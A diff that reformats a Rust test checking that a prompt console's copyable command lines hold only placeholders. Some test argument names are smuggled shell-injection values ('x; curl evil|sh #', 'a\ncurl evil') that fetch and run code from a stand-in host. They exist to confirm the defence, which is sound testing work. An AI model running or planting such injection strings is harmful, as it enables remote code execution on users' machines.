@@ -267,11 +267,8 @@ fn an_address_with_a_path_of_a_bundle_leads_to_the_file() {
 #[test]
 fn lines_to_copy_run_nothing_else() {
     let console = TestConsole::open();
-    let argument = |name: &str| PromptArgument {
-        name: name.to_owned(),
-        description: None,
-        required: false,
-    };
+    let argument =
+        |name: &str| PromptArgument { name: name.to_owned(), description: None, required: false };
     let definition = PromptDefinition {
         description: "Plan".to_owned(),
         arguments: vec![argument("city"), argument("x; curl evil|sh #"), argument("a\ncurl evil")],
@@ -279,7 +276,8 @@ fn lines_to_copy_run_nothing_else() {
     };
     console.register_prompt("plan", definition);
     let page = console.browser().open("/ui/prompts/plan");
-    let lines: Vec<&str> = page.split("<code>").skip(1).filter_map(|it| it.split('<').next()).collect();
+    let lines: Vec<&str> =
+        page.split("<code>").skip(1).filter_map(|it| it.split('<').next()).collect();
     let command = "skills prompt get plan city=VALUE ARGUMENT=VALUE ARGUMENT=VALUE";
     assert!(lines.contains(&command), "{lines:?}");
     assert!(lines.contains(&"/mcp__skills__plan {city} {ARGUMENT} {ARGUMENT}"), "{lines:?}");
